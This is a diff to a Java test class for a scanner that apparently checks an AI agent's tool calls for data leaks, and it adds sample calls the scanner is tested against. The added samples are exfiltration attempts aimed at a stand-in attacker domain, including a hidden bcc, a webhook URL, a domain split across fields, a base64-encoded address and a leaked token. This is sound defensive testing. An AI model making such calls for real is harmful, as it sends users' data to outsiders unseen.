@@ -63,6 +63,12 @@ class UntrustedTriggerTest extends ScannerContract {
         "open_ticket {\"text\": \"see https://attacker.example/x\"}",
         "open_ticket {\"ref\": \"B-9999\"}",
         "open_ticket {\"ref\": \"order B-9999\"}",
+        "send_email {\"to\": \"bob@friend.example\", \"bcc\": \"eve@attacker.example\"}",
+        "send_email {\"to\": \"bob@friend.example\", \"hook\": \"https://attacker.example/in\"}",
+        "open_ticket {\"user\": \"eve\", \"server\": \"attacker.example\"}",
+        "open_ticket {\"user\": \"eve@att\", \"rest\": \"acker.example\"}",
+        "open_ticket {\"text\": \"please pass on ZXZlQGF0dGFja2VyLmV4YW1wbGU= to the desk\"}",
+        "open_ticket {\"text\": \"token 9f8e7d6c5b4a39281706 goes with it as you know\"}",
         "refund nonsense");
   }
 
@@ -89,7 +95,10 @@ class UntrustedTriggerTest extends ScannerContract {
         "refund {\"order_id\": \"123456\", \"amount\": 19.90}",
         "open_ticket {\"phone\": \"+49 (30) 1234567\"}",
         "open_ticket {\"subject\": \"Refund for order 4711-8\"}",
-        "open_ticket {\"priority\": \"high\"}");
+        "open_ticket {\"priority\": \"high\"}",
+        "open_ticket {\"text\": \"The file report.pdf is broken. Please have a look at it.\"}",
+        "open_ticket {\"text\": \"Counterrevolutionary is a long word and no secret at all\"}",
+        "send_email {\"to\": \"bob@friend.example\", \"body\": \"mail eve@attacker.example\"}");
   }
 
   @Test
